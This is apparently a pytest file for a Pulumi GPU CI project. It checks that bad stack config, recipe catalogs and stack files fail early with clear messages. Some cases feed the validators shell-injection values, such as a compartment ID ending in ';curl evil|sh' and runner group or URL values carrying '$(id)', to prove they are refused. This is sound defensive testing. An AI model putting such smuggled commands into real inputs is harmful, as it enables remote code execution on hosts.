"""Bad input fails early and clearly: one table over stack config, recipes and stack files.

Every case runs the real program (or the offline plan of a stack file) under the recording
mocks and must fail with one message that names the key or file, carries no traceback, and
leaves the engine with no resource registered: nothing would have been created.

The rules themselves are unit-tested next to their code (tests/stacks, tests/recipes); this
table proves that each kind of mistake stops the whole program before the first resource.
"""

from __future__ import annotations

import re
import shutil
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pulumi
import pytest
import yaml

from components.cluster.node_images import KIND_RELEASES
from core.errors import GpuCiError
from stacks.offline.engine.fakes import FakeCloud, StackExports
from stacks.offline.engine.mocks import run_program
from stacks.offline.engine.records import Registration
from stacks.offline.plan import REPO, plan_run
from stacks.program import main
from tests.components.arc.arc_helpers import arc_stack, gpu_pod, launcher
from tests.stacks.stack_helpers import SSH_KEY, flat, vm_stack

PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAhardening\n-----END RSA PRIVATE KEY-----\n"
APP = {"appId": 1234567, "installationId": 7654321, "privateKey": PEM}
API_CIDR = "198.51.100.0/24"
V1 = "aicr.nvidia.com/v1alpha1"
# The project's query for a kind cluster with an A10: an overlay with these criteria applies.
KIND_A10 = {"service": "kind", "accelerator": "a10", "intent": "training", "platform": "kubeflow"}


def local(**host: Any) -> dict[str, Any]:
    """No cloud capacity; the machine running `pulumi up` is the host."""
    return {"gpu-ci:capacity": "none", "gpu-ci:host": {"target": "local", **host}}


def ssh(**host: Any) -> dict[str, Any]:
    return local(**{"target": "ssh", "address": "gpu1.example.org", "user": "ci", **host})


def vm(**overrides: Any) -> dict[str, Any]:
    """A VM stack with its host bootstrapped, as Pulumi.dev.yaml."""
    return vm_stack(**{"gpu-ci:host": {"target": "oci-vm"}, **overrides})


def network(**keys: Any) -> dict[str, Any]:
    return {"gpu-ci:network": {"sshSourceCidrs": [API_CIDR], **keys}}


def vm_with(**values: Any) -> dict[str, Any]:
    """A VM stack whose `gpu-ci:vm` has these keys."""
    return vm(**{"gpu-ci:vm": {"sshAuthorizedKeys": [SSH_KEY], **values}})


def runner(**keys: Any) -> dict[str, Any]:
    return vm(**{"gpu-ci:runner": {"url": "https://github.com/kubeflow", "githubApp": APP, **keys}})


def platform(**keys: Any) -> dict[str, Any]:
    """A local host with an nvkind cluster and the platform on it."""
    return {
        **local(),
        "gpu-ci:cluster": {"name": "gpu-ci"},
        "gpu-ci:platform": {"accelerator": "a10", **keys},
    }


def stack_file(values: dict[str, Any], stack: str = "broken") -> dict[str, str]:
    """`values` as the stack file Pulumi.<stack>.yaml, planned offline (`plan_run`)."""
    return {stack: yaml.safe_dump({"config": values}, sort_keys=False)}


# In a stack file a credential is a `secure:` value (offline: a placeholder).
APP_SECURE = {**APP, "privateKey": {"secure": "v1:hardening-placeholder"}}


def runner_file(**keys: Any) -> dict[str, str]:
    """A VM stack with its runner, as a stack file."""
    runner = {"url": "https://github.com/kubeflow", "githubApp": APP_SECURE, **keys}
    return stack_file(vm(**{"gpu-ci:runner": runner}))


def cluster_on(host: dict[str, Any], **cluster: Any) -> dict[str, str]:
    """An nvkind cluster (these keys) on the host of `host`, as a stack file."""
    return stack_file({**host, "gpu-ci:cluster": {"name": "gpu-ci", **cluster}})


def mounts(*mount: dict[str, str]) -> dict[str, str]:
    return cluster_on(local(), extraMounts=list(mount))


LONG_STACK = "x" * 43
"""A stack name that makes the runner name gpu-ci-<stack>-gpu-0 56 characters, one over."""
CIDRS_300 = [f"198.18.{i // 250}.{i % 250}/32" for i in range(300)]
RUNNER_GROUP_FIX = (
    "gpu-ci:runner.group: a runner group name here is 1 to 100 letters, digits, spaces, '.', "
    "'_' or '-', not starting with a space (it is written into the runner's config on the "
    "host); use the group's name without quotes, `$`, `(` or line breaks, or 'Default' "
    "[given: {}]"
)
"""The group's problem, with the value given ({}): gpu-ci:runner is secret for its App key
only, and the group is shown, whitespace and quotes visible."""
OCID_FIX = (
    "ocid1.<type>.<realm>.[region][.future].<unique id>, each part lowercase letters and "
    "digits (a region may hold '-'); copy it from the OCI console (Identity > Compartments, "
    "or Tenancy)"
)
OWNER_FIX = (
    "is empty: `owner: ~` or `owner:` with no value is YAML null, which Pulumi hands the "
    "program as text, not a name; every GPU instance is tagged with the team or person who "
    "pays for it (pulumi config set gpu-ci:owner my-team)"
)
INT_FIX = ": write the number itself, unquoted (true, false and text are no numbers)"


def overlay(name: str, **spec: Any) -> dict[str, Any]:
    return {"kind": "RecipeMetadata", "apiVersion": V1, "metadata": {"name": name}, "spec": spec}


def registry(*names: str) -> dict[str, Any]:
    return {
        "apiVersion": V1,
        "kind": "ComponentRegistry",
        "components": [
            {
                "name": n,
                "helm": {
                    "defaultRepository": f"https://charts.example/{n}",
                    "defaultChart": f"example/{n}",
                    "defaultVersion": "1.0.0",
                    "defaultNamespace": n,
                },
            }
            for n in names
        ],
    }


@dataclass(frozen=True)
class Case:
    """One broken input and the one message fragment that names what to fix.

    Exactly one of `values` (a stack config run through the program), `catalog` (files of
    a catalog layered under the project's through gpu-ci:platform.catalogs) or `stacks`
    (stack files of a project planned offline as `pulumi preview -s broken` would) is set.
    """

    id: str
    fragment: str
    values: dict[str, Any] | None = None
    secret: tuple[str, ...] = ()
    catalog: dict[str, Any] | None = None
    stacks: dict[str, str] = field(default_factory=dict)
    stack: str = "broken"
    """The stack of `stacks` that is planned."""


CASES = [
    # -- wrong types ---------------------------------------------------------------------
    Case("type-count", "gpu-ci:vm.count: Input should be a valid integer", vm_with(count="two")),
    Case(
        "type-bool",
        "gpu-ci:vm.assignPublicIp: Input should be a valid boolean",
        vm_with(assignPublicIp="perhaps"),
    ),
    Case(
        "type-list",
        "gpu-ci:network.sshSourceCidrs: Input should be a valid list",
        vm(**{"gpu-ci:network": {"sshSourceCidrs": API_CIDR}}),
    ),
    Case(
        "type-object",
        "gpu-ci:host: Input should be a valid dictionary",
        {"gpu-ci:capacity": "none", "gpu-ci:host": "local"},
    ),
    Case(
        "type-app-id",
        "gpu-ci:runner.githubApp.appId: Input should be a valid integer",
        runner(githubApp={**APP, "appId": "my-app"}),
        secret=("gpu-ci:runner",),
    ),
    Case("type-port", "gpu-ci:host.port: Input should be a valid integer", ssh(port="ssh")),
    # -- unknown keys and near misses -----------------------------------------------------
    Case(
        "unknown-top-key",
        "gpu-ci:clusters: unknown key (did you mean 'cluster'?)",
        {**platform(), "gpu-ci:clusters": {}},
    ),
    Case(
        "unknown-nested-key",
        "gpu-ci:host.versions.toolkits: unknown key (did you mean 'toolkit'?)",
        local(versions={"toolkits": "1.17.8-1"}),
    ),
    Case(
        "unknown-platform-key",
        "gpu-ci:platform.intnet: unknown key (did you mean 'intent'?)",
        platform(intnet="training"),
    ),
    Case(
        "unknown-network-key",
        "gpu-ci:network.sshSourceCidr: unknown key (did you mean 'sshSourceCidrs'?)",
        vm(**{"gpu-ci:network": {"sshSourceCidr": [API_CIDR]}}),
    ),
    Case(
        "unknown-runner-key",
        "gpu-ci:runner.githubapp: unknown key (did you mean 'githubApp'?)",
        vm(**{"gpu-ci:runner": {"url": "https://github.com/kubeflow", "githubapp": APP}}),
        secret=("gpu-ci:runner",),
    ),
    Case(
        "typo-enum-arch",
        "gpu-ci:host.arch: must be one of 'amd64', 'arm64' (did you mean 'amd64'?)",
        local(arch="amd46"),
    ),
    Case(
        "typo-enum-capacity",
        "gpu-ci:capacity: must be one of 'vm',",
        {"gpu-ci:capacity": "nONE"},
    ),
    Case(
        "typo-shape",
        "gpu-ci:vm.shape: unknown GPU shape (did you mean 'VM.GPU.A10.2'?)",
        vm_with(shape="VM.GPU.A10.Z"),
    ),
    Case(
        "typo-target",
        "gpu-ci:host.target: must be one of 'oci-vm', 'ssh', 'local' (did you mean 'ssh'?)",
        local(target="shh"),
    ),
    # -- network -------------------------------------------------------------------------
    Case(
        "cidr-prefix",
        "gpu-ci:network.vcnCidr: '10.0.0.0/33' is not a CIDR block",
        vm(**network(vcnCidr="10.0.0.0/33")),
    ),
    Case(
        "cidr-octet",
        "gpu-ci:network.apiSourceCidrs[0]: '300.1.1.0/24' is not a CIDR block",
        vm(**network(apiSourceCidrs=["300.1.1.0/24"])),
    ),
    Case(
        "cidr-family",
        "gpu-ci:network.subnetCidr: fd00::/64 is not inside vcnCidr 10.0.0.0/16",
        vm(**network(subnetCidr="fd00::/64")),
    ),
    Case(
        "ssh-world",
        "gpu-ci:network.sshSourceCidrs: 0.0.0.0/0 opens the port to the whole internet",
        vm(**{"gpu-ci:network": {"sshSourceCidrs": [API_CIDR, "0.0.0.0/0"]}}),
    ),
    Case(
        "api-world",
        "gpu-ci:network.apiSourceCidrs: ::/0 opens the port to the whole internet",
        vm(**network(apiSourceCidrs=["::/0"]), **{"gpu-ci:cluster": {"name": "gpu-ci"}}),
    ),
    Case(
        "api-port",
        "gpu-ci:network.apiPort: Input should be less than or equal to 65535",
        vm(**network(apiPort=70000)),
    ),
    # -- capacity ------------------------------------------------------------------------
    Case(
        "shape-unknown",
        "gpu-ci:vm.shape: unknown GPU shape; known shapes:",
        vm_with(shape="VM.Standard.E5.Flex"),
    ),
    Case(
        "owner-missing",
        "gpu-ci:owner: required when gpu-ci:capacity is 'vm'",
        vm(**{"gpu-ci:owner": None}),
    ),
    Case(
        "owner-pattern",
        "gpu-ci:owner: String should match pattern",
        vm(**{"gpu-ci:owner": "the gpu team"}),
    ),
    Case(
        "compartment-ocid",
        "gpu-ci:compartmentId: 'my-compartment' is not an OCI OCID",
        vm(**{"gpu-ci:compartmentId": "my-compartment"}),
    ),
    Case(
        "secret-not-credential",
        "gpu-ci:network: is stored as a secret, but it holds no credential",
        vm(**network()),
        secret=("gpu-ci:network",),
    ),
    # -- credentials in plain config, values never echoed (more: test_hardening_plain_credentials)
    Case(
        "plain-app-key",
        "gpu-ci:runner.githubApp.privateKey: is a credential in plain text: set it with "
        "`pulumi config set --secret --path gpu-ci:runner.githubApp.privateKey < key.pem`",
        runner(),
    ),
    Case(
        "plain-ssh-key",
        "gpu-ci:host.privateKey: is a credential in plain text: set it with `pulumi config "
        "set --secret --path gpu-ci:host.privateKey < ~/.ssh/id_ed25519`",
        ssh(privateKey=PEM),
    ),
    Case(
        "plain-stack-file-key",
        "gpu-ci:host.proxy.privateKey: is a credential in plain text",
        stacks=stack_file(
            ssh(
                reboot=False,
                proxy={"address": "bastion.example.org", "user": "j", "privateKey": PEM},
            )
        ),
    ),
    Case(
        "plain-oci-api-key",
        "gpu-ci:arc.scaleSets[0].ociCredentials.privateKey: is a credential in plain text",
        arc_stack(launcher()),
    ),
    Case(
        "credential-as-text",
        "gpu-ci:runner.githubApp: Input should be a valid dictionary or instance of "
        "GithubAppConfig [given: [secret]]",
        runner(githubApp="ghp_hardening"),
    ),
    # -- a trailing newline passes no pattern (more: test_hardening_config_patterns) -----
    Case(
        "newline-address",
        "gpu-ci:host.address: 'gpu1.example.org\\n' is not a host name or IP address",
        ssh(address="gpu1.example.org\n"),
    ),
    Case(
        "newline-scale-set-name",
        "gpu-ci:arc.scaleSets[0].name: not a valid runner label for a scale set",
        arc_stack(gpu_pod(name="gpu-a10-pod\n")),
        secret=("gpu-ci:arc",),
    ),
    # -- host versions: the compatibility model ------------------------------------------
    Case(
        "toolkit-118-dropin",
        "gpu-ci:host.versions: known-bad combination: [toolkit-1.18-containerd-dropin-path]",
        local(versions={"toolkit": "1.18.0-1"}),
    ),
    Case(
        "cdi-old-nvkind",
        "gpu-ci:host.versions: known-bad combination: [nvkind-61-jit-cdi-umount]",
        local(
            cdi=True,
            versions={
                "toolkit": "1.19.1-1",
                "nvkind": {"commit": "5bb2ef1", "commitDate": "2026-02-10"},
            },
        ),
    ),
    Case(
        "driver-branch",
        "gpu-ci:host.versions.driverBranch: 'latest' is not an NVIDIA driver branch",
        local(versions={"driverBranch": "latest"}),
    ),
    Case(
        "tool-digest",
        "gpu-ci:host.versions.kubectl.sha256: String should match pattern",
        local(versions={"kubectl": {"version": "1.35.0", "sha256": "abc123"}}),
    ),
    Case(
        "nvkind-binary-half",
        "gpu-ci:host.versions.nvkind: binaryUrl and binarySha256 go together",
        local(versions={"nvkind": {"binaryUrl": "https://example.org/nvkind"}}),
    ),
    Case(
        "ssh-address",
        "gpu-ci:host.address: 'gpu 1' is not a host name or IP address",
        ssh(address="gpu 1"),
    ),
    # -- runner --------------------------------------------------------------------------
    Case(
        "runner-url",
        "gpu-ci:runner.url: not a GitHub URL",
        runner(url="https://gitlab.com/kubeflow"),
        secret=("gpu-ci:runner",),
    ),
    Case(
        "runner-labels-twice",
        "gpu-ci:runner.labels: ['gpu', 'gpu'] lists a label twice",
        runner(labels=["gpu", "gpu"]),
        secret=("gpu-ci:runner",),
    ),
    Case(
        "runner-app-id",
        "gpu-ci:runner.githubApp.installationId: Input should be greater than or equal to 1",
        runner(githubApp={**APP, "installationId": 0}),
        secret=("gpu-ci:runner",),
    ),
    # -- cluster and platform --------------------------------------------------------------
    Case(
        "cluster-name",
        "gpu-ci:cluster.name: name 'GPU_CI' is not a kind cluster name",
        {**local(), "gpu-ci:cluster": {"name": "GPU_CI"}},
    ),
    Case(
        "criteria-intent",
        "gpu-ci:platform.intent: unknown value (did you mean 'inference'?); valid values "
        "(AICR's and the catalog's): inference, training (or any) [given: 'inferense']",
        platform(intent="inferense"),
    ),
    Case(
        "criteria-service",
        "gpu-ci:platform.service: unknown value (did you mean 'gke'?)",
        platform(service="gkee"),
    ),
    Case(
        "criteria-no-overlay",
        "gpu-ci:platform.service: no overlay in the catalog supports it; valid values: kind, oke",
        platform(service="gke"),
    ),
    Case(
        "criteria-pattern",
        "gpu-ci:platform.accelerator: String should match pattern",
        platform(accelerator="A10 GPU"),
    ),
    Case(
        "set-syntax",
        "gpu-ci:platform.set: ",
        platform(set=["gpu-operator"]),
    ),
    Case(
        "cluster-stack-syntax",
        "gpu-ci:platform.clusterStack: not a stack reference",
        {"gpu-ci:platform": {"clusterStack": "a/b", "accelerator": "a10"}},
    ),
    Case(
        "catalog-dir",
        "gpu-ci:platform.catalogs[0]: not a directory [given: '/nonexistent/gpu-ci-catalog']",
        platform(catalogs=["/nonexistent/gpu-ci-catalog"]),
    ),
    # -- recipe catalogs layered under the project's ---------------------------------------
    Case(
        "recipe-cycle",
        "overlays/x.yaml: spec.base: inheritance cycle x -> y -> x",
        catalog={
            "overlays/x.yaml": overlay("x", base="y"),
            "overlays/y.yaml": overlay("y", base="x"),
        },
    ),
    Case(
        "recipe-dependency-cycle",
        "gpu-ci:platform.catalogs: dependency cycle among components: ping, pong",
        catalog={
            "registry.yaml": registry("ping", "pong"),
            "overlays/ping-pong.yaml": overlay(
                "ping-pong",
                base="kind-a10-training-kubeflow",
                criteria=KIND_A10,
                componentRefs=[
                    {"name": "ping", "dependencyRefs": ["pong"]},
                    {"name": "pong", "dependencyRefs": ["ping"]},
                ],
            ),
        },
    ),
    Case(
        "recipe-values-file",
        "overlays/x.yaml: spec.componentRefs[0].valuesFile: file components/gpu-operator/"
        "values-a10.yaml does not exist",
        catalog={
            "overlays/x.yaml": overlay(
                "x",
                componentRefs=[
                    {
                        "name": "gpu-operator",
                        "valuesFile": "components/gpu-operator/values-a10.yaml",
                    }
                ],
            )
        },
    ),
    Case(
        "recipe-malformed-yaml",
        "overlays/x.yaml: malformed YAML: line 3, column 1",
        catalog={"overlays/x.yaml": "kind: RecipeMetadata\nspec: {criteria: [kind\n"},
    ),
    Case(
        "recipe-mixin-key",
        "mixins/m.yaml: spec.criteria: unknown field",
        catalog={
            "mixins/m.yaml": {
                "kind": "RecipeMixin",
                "apiVersion": V1,
                "metadata": {"name": "m"},
                "spec": {"criteria": {"service": "kind"}},
            }
        },
    ),
    Case(
        "recipe-unknown-component",
        "overlays/x.yaml: spec.componentRefs[0].name: component 'gpu-operater' is not in "
        "registry.yaml (did you mean 'gpu-operator'?)",
        catalog={"overlays/x.yaml": overlay("x", componentRefs=[{"name": "gpu-operater"}])},
    ),
    Case(
        "recipe-registry-type",
        "registry.yaml: components[0].helm.defaultVersion: Input should be a valid string",
        catalog={
            "registry.yaml": {
                **registry(),
                "components": [{"name": "extra", "helm": {"defaultVersion": ["1.0.0"]}}],
            }
        },
    ),
    # -- stack files, planned offline --------------------------------------------------------
    Case(
        "stack-file-yaml",
        "Pulumi.broken.yaml: not valid YAML",
        stacks={"broken": "config:\n  gpu-ci:capacity: [vm\n"},
    ),
    Case(
        "stack-file-namespace",
        "Pulumi.broken.yaml: config key 'capacity' needs a namespace, like gpu-ci:capacity",
        stacks={"broken": "config:\n  capacity: vm\n"},
    ),
    Case(
        "reference-without-cluster",
        "gpu-ci:platform.clusterStack: stack 'workstation' exports no `cluster`, `kubeconfig` "
        "(it exports: host)",
        stacks={
            "workstation": "<copy>",
            "broken": yaml.safe_dump(
                {
                    "config": {
                        "gpu-ci:platform": {"clusterStack": "workstation", "accelerator": "a10"}
                    }
                }
            ),
        },
    ),
    Case(
        "reference-unknown-stack",
        "Pulumi.broken.yaml: gpu-ci:platform.clusterStack names stack "
        "'organization/gpu-ci/gpu-prod', which has no Pulumi.gpu-prod.yaml here (stacks here: "
        "broken)",
        stacks={
            "broken": yaml.safe_dump(
                {
                    "config": {
                        "gpu-ci:platform": {
                            "clusterStack": "organization/gpu-ci/gpu-prod",
                            "accelerator": "a10",
                        }
                    }
                }
            )
        },
    ),
    # -- ARC capacity ----------------------------------------------------------------------
    Case(
        "arc-min-over-max",
        "gpu-ci:arc.scaleSets[0].maxRunners: must be at least minRunners (5)",
        arc_stack(launcher(minRunners=5, maxRunners=2)),
        secret=("gpu-ci:arc",),
    ),
    Case(
        "arc-name-not-a-label",
        "gpu-ci:arc.scaleSets[1].name: not a valid runner label for a scale set",
        arc_stack(gpu_pod(), gpu_pod(name="GPU pods!")),
        secret=("gpu-ci:arc",),
    ),
    Case(
        "arc-launcher-without-shapes",
        "gpu-ci:arc.scaleSets[0].shapes: a vm-launcher needs at least one VM shape",
        arc_stack(launcher(shapes=[])),
        secret=("gpu-ci:arc",),
    ),
    # -- late validation: values only a host step's parameter model refused, after the
    # -- VM and 26 other resources had registered; now refused before the first --------
    Case(
        "late-runner-group-subshell",
        RUNNER_GROUP_FIX.format("'GPUs$(id)'"),
        stacks=runner_file(group="GPUs$(id)"),
    ),
    Case(
        "late-runner-group-newline",
        RUNNER_GROUP_FIX.format("'GPUs\\nx'"),
        stacks=runner_file(group="GPUs\nx"),
    ),
    Case(
        "late-runner-group-quote",
        RUNNER_GROUP_FIX.format('"GPU\'s"'),
        stacks=runner_file(group="GPU's"),
    ),
    Case(
        "late-runner-label-newline",
        "gpu-ci:runner.labels: label 0 ('gpu\\n') may hold only letters, digits, '.', '_' "
        "and '-'; remove the line break, space or other character [given: [\"gpu\\n\"]]",
        stacks=runner_file(labels=["gpu\n"]),
    ),
    Case(
        "late-runner-101-labels",
        "gpu-ci:runner.labels: 101 labels: a runner takes 1 to 100 labels; list only those "
        'jobs select runners by [given: ["gpu-0", "gpu-1", "gpu-2", "gpu-3", "gpu-...99", '
        '"gpu-100"]]',
        stacks=runner_file(labels=[f"gpu-{i}" for i in range(101)]),
    ),
    Case(
        "late-runner-name-long-stack",
        f"gpu-ci:runner: runner name 'gpu-ci-{LONG_STACK}-gpu-0' (56 characters) is not 1 to "
        "55 letters, digits, '.', '_' or '-' starting with a letter or digit (GitHub allows "
        "64, and an ephemeral runner appends -<8 hex> per job); runners are named "
        "gpu-ci-<stack>-gpu-N after the Pulumi project and stack: use a stack name of at "
        "most 42 characters\n",
        stacks=stack_file(
            vm(
                **{"gpu-ci:runner": {"url": "https://github.com/kubeflow", "githubApp": APP_SECURE}}
            ),
            LONG_STACK,
        ),
        stack=LONG_STACK,
    ),
    Case(
        "late-nvkind-binary-url-quote",
        "gpu-ci:host.versions.nvkind.binaryUrl: not an https:// URL without spaces, quotes or "
        "line breaks (it is written into a host script); give the download's plain https:// "
        'URL [given: "https://example.org/nvkind\'$(id)"]',
        stacks=stack_file(
            local(
                versions={
                    "nvkind": {
                        "binaryUrl": "https://example.org/nvkind'$(id)",
                        "binarySha256": "a" * 64,
                    }
                }
            )
        ),
    ),
    # -- accepted at plan, failing at apply: refused at config time ------------------------
    Case(
        "cluster-on-ipv6-ssh-address",
        "gpu-ci:host.address: is an IPv6 address, and the nvkind cluster's API server is "
        "reached at it: the nvkind-cluster step (its certificate and kubeconfig) takes an IPv4 "
        "address or a DNS name only, and would refuse it after the whole bootstrap; set "
        "gpu-ci:host.address to the host's IPv4 address or DNS name [given: '2001:db8::10']",
        stacks=cluster_on(ssh(address="2001:db8::10", gpus=1)),
    ),
    Case(
        "ssh-address-colons",
        "gpu-ci:host.address: not a valid IPv6 address (nor a host name); give the host's "
        "address as ssh takes it, e.g. 192.0.2.10, 2001:db8::10 or gpu1.example.org "
        "[given: ':::1']",
        stacks=stack_file(ssh(address=":::1")),
    ),
    Case(
        "ssh-address-short-ipv4",
        "gpu-ci:host.address: not a valid IPv4 address (nor a host name)",
        stacks=stack_file(ssh(address="10.1.2")),
    ),
    Case(
        "nsg-rules-ssh",
        "gpu-ci:network.sshSourceCidrs: 300 SSH CIDRs make 301 rules in the VMs' network "
        "security group (one per CIDR, plus 1 for egress); OCI allows 120 per group: list at "
        "most 119 CIDRs in sshSourceCidrs and apiSourceCidrs together, merging neighbours "
        "into larger blocks",
        stacks=stack_file(vm(**network(sshSourceCidrs=CIDRS_300))),
    ),
    Case(
        "nsg-rules-ssh-and-api",
        "gpu-ci:network.apiSourceCidrs: 100 SSH and 20 API CIDRs make 121 rules in the VMs' "
        "network security group",
        stacks=stack_file(
            vm(**network(sshSourceCidrs=CIDRS_300[:100], apiSourceCidrs=CIDRS_300[100:120]))
        ),
    ),
    Case(
        "vcn-prefix-8",
        "gpu-ci:network.vcnCidr: OCI takes VCN CIDR blocks from /16 to /30, not /8; use e.g. "
        "10.0.0.0/16 [given: '10.0.0.0/8']",
        stacks=stack_file(vm(**network(vcnCidr="10.0.0.0/8"))),
    ),
    Case(
        "subnet-prefix-31",
        "gpu-ci:network.subnetCidr: OCI takes subnet CIDR blocks from /16 to /30, not /31; "
        "use e.g. 10.0.1.0/24 (inside vcnCidr) [given: '10.0.1.0/31']",
        stacks=stack_file(vm(**network(subnetCidr="10.0.1.0/31"))),
    ),
    Case(
        "subnet-outside-vcn",
        "gpu-ci:network.subnetCidr: 10.1.0.0/24 is not inside vcnCidr 10.0.0.0/16",
        stacks=stack_file(vm(**network(subnetCidr="10.1.0.0/24"))),
    ),
    Case(
        "compartment-shell",
        "gpu-ci:compartmentId: 'ocid1.compartment.oc1..aaaa;curl evil|sh' is not an OCI "
        f"OCID: {OCID_FIX}",
        stacks=stack_file(
            vm(**{"gpu-ci:compartmentId": "ocid1.compartment.oc1..aaaa;curl evil|sh"})
        ),
    ),
    Case(
        "compartment-newline",
        "gpu-ci:compartmentId: 'ocid1.compartment.oc1..aaaa\\nbbbb' is not an OCI OCID: "
        + OCID_FIX,
        stacks=stack_file(vm(**{"gpu-ci:compartmentId": "ocid1.compartment.oc1..aaaa\nbbbb"})),
    ),
    Case(
        "tenancy-uppercase",
        f"gpu-ci:tenancyId: 'ocid1.tenancy.oc1..AAAA_x' is not an OCI OCID: {OCID_FIX}",
        stacks=stack_file(vm(**{"gpu-ci:tenancyId": "ocid1.tenancy.oc1..AAAA_x"})),
    ),
    Case(
        "ssh-key-comment-cr",
        "gpu-ci:vm.sshAuthorizedKeys[0]: the key contains a line break or NUL: give one key "
        "line per entry",
        stacks=stack_file(vm_with(sshAuthorizedKeys=[SSH_KEY.replace("t@example", "t@\rexample")])),
    ),
    Case(
        "ssh-key-comment-vt",
        "gpu-ci:vm.sshAuthorizedKeys[0]: the key contains the control character '\\x0b' (a "
        "vertical tab, form feed or other line separator, often from a paste): remove it; a "
        "key line is printable text",
        stacks=stack_file(vm_with(sshAuthorizedKeys=[SSH_KEY.replace("t@example", "t@\vexample")])),
    ),
    Case(
        "runner-url-enterprise-without-name",
        "gpu-ci:runner.url: https://github.com/enterprises names no enterprise: use "
        "https://github.com/enterprises/NAME (the enterprise's slug), or "
        "https://github.com/ORG for an organization",
        stacks=runner_file(url="https://github.com/enterprises/"),
    ),
    Case(
        "mount-host-root",
        "gpu-ci:cluster.extraMounts[0]: extraMounts: hostPath '/' would mount the host's whole "
        "filesystem into every node; mount one directory, such as /data/datasets",
        stacks=mounts({"hostPath": "/", "containerPath": "/host"}),
    ),
    Case(
        "mount-container-root",
        "gpu-ci:cluster.extraMounts[0]: extraMounts: containerPath '/' would cover each "
        "node's own root filesystem; mount one directory, such as /data/datasets",
        stacks=mounts({"hostPath": "/data", "containerPath": "/"}),
    ),
    Case(
        "mount-dotdot",
        "gpu-ci:cluster.extraMounts[0]: extraMounts: containerPath '/data/../etc' has a '..' "
        "segment, so it is not the directory it names; give the path without '..'",
        stacks=mounts({"hostPath": "/data", "containerPath": "/data/../etc"}),
    ),
    Case(
        "node-image-never-published",
        "gpu-ci:cluster: nodeImage 'kindest/node:v1.35.9': no kind release publishes v1.35.9, "
        f"so the pull would fail; use '{KIND_RELEASES['0.31.0'].image('v1.35.0')}' (kind "
        "v0.31.0's Kubernetes 1.35), or pin an image you built by its digest "
        "(kindest/node:v1.35.9@sha256:<64 hex>)",
        stacks=cluster_on(local(), nodeImage="kindest/node:v1.35.9"),
    ),
    Case(
        "owner-yaml-null",
        f"gpu-ci:owner: {OWNER_FIX}",
        stacks=stack_file({**vm(), "gpu-ci:owner": None}),
    ),
    Case(
        "owner-empty",
        f"gpu-ci:owner: {OWNER_FIX} [given: '']",
        stacks=stack_file({**vm(), "gpu-ci:owner": ""}),
    ),
    Case(
        "strict-count-true",
        f"gpu-ci:vm.count: Input should be a valid integer{INT_FIX} [given: true]",
        stacks=stack_file(vm_with(count=True)),
    ),
    Case(
        "strict-count-text",
        f"gpu-ci:vm.count: Input should be a valid integer{INT_FIX} [given: '2']",
        stacks=stack_file(vm_with(count="2")),
    ),
    Case(
        "strict-availability-domain-true",
        f"gpu-ci:vm.availabilityDomains[0]: Input should be a valid integer{INT_FIX}",
        stacks=stack_file(vm_with(availabilityDomains=[True])),
    ),
    Case(
        "strict-api-port-float",
        f"gpu-ci:network.apiPort: Input should be a valid integer{INT_FIX} [given: 6443.5]",
        stacks=stack_file(vm(**network(apiPort=6443.5))),
    ),
    Case(
        "strict-ssh-port-true",
        f"gpu-ci:host.port: Input should be a valid integer{INT_FIX} [given: true]",
        stacks=stack_file(ssh(port=True)),
    ),
    Case(
        "strict-app-id-true",
        f"gpu-ci:runner.githubApp.appId: Input should be a valid integer{INT_FIX} [given: true]",
        stacks=runner_file(githubApp={**APP_SECURE, "appId": True}),
    ),
]
"""ARC cases (min > max runners, bad scale-set names) join once `gpu-ci:arc` exists."""

NAMES_A_KEY_OR_FILE = re.compile(r"gpu-ci:[A-Za-z]|[\w./-]+\.ya?ml|--data ")


def _fail(case: Case, tmp_path: Path) -> tuple[BaseException, list[Registration]]:
    """Run the case; return what it raised and what registered before it did."""
    registered: list[Registration] = []
    with pytest.raises((GpuCiError, pulumi.RunError)) as failure:
        if case.stacks:
            shutil.copy(REPO / "Pulumi.yaml", tmp_path / "Pulumi.yaml")
            for name, text in case.stacks.items():
                source = (REPO / f"Pulumi.{name}.yaml").read_text() if text == "<copy>" else text
                (tmp_path / f"Pulumi.{name}.yaml").write_text(source)
            plan_run(case.stack, tmp_path, registrations=registered)
        else:
            values = case.values
            if case.catalog is not None:
                for rel, doc in {"registry.yaml": registry(), **case.catalog}.items():
                    path = tmp_path / "catalog" / rel
                    path.parent.mkdir(parents=True, exist_ok=True)
                    path.write_text(doc if isinstance(doc, str) else yaml.safe_dump(doc))
                values = platform(catalogs=[str(tmp_path / "catalog")])
            assert values is not None
            run_program(
                main,
                project="gpu-ci",
                stack="broken",
                config=flat(values),
                secret_keys=set(case.secret),
                registrations=registered,
            )
    return failure.value, registered


def test_the_matrix_is_large_and_each_case_names_a_key_or_file() -> None:
    assert len(CASES) >= 40
    assert len({c.id for c in CASES}) == len(CASES)
    for case in CASES:
        assert NAMES_A_KEY_OR_FILE.search(case.fragment), case.id
        assert [case.values is not None, case.catalog is not None, bool(case.stacks)].count(
            True
        ) == 1, case.id


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input_fails_clearly_before_anything_registers(case: Case, tmp_path: Path) -> None:
    error, registered = _fail(case, tmp_path)
    message = str(error)
    assert message.count(case.fragment) == 1, message
    assert "Traceback" not in message and 'File "' not in message, message
    assert error.__cause__ is None or isinstance(error.__cause__, GpuCiError)
    assert registered == [], [r.urn for r in registered]
    if "[given:" in message:
        assert "PRIVATE KEY" not in message and "hardening" not in message


def test_a_missing_export_fails_with_the_key_when_the_reference_is_read() -> None:
    """`pulumi up` reads the reference itself: a missing export is named, not a KeyError."""
    values = {"gpu-ci:platform": {"clusterStack": "gpu-dev", "accelerator": "a10"}}
    cloud = FakeCloud(flat(values), {"gpu-dev": StackExports({"cluster": {}})})
    with pytest.raises(pulumi.RunError) as failure:
        run_program(main, project="gpu-ci", stack="apps", config=flat(values), cloud=cloud)
    assert str(failure.value) == (
        "gpu-ci:platform.clusterStack: stack 'gpu-dev' exports no `kubeconfig`; point "
        "clusterStack at a stack that sets gpu-ci:cluster, deployed first"
    )


def test_a_recipe_error_in_a_vm_stack_registers_nothing(tmp_path: Path) -> None:
    values = vm(
        **network(apiSourceCidrs=[API_CIDR]),
        **{"gpu-ci:cluster": {"name": "gpu-ci"}, "gpu-ci:platform": {"intent": "inferense"}},
    )
    registered: list[Registration] = []
    with pytest.raises(pulumi.RunError, match=r"  - gpu-ci:platform.intent: .*'inferense'"):
        run_program(
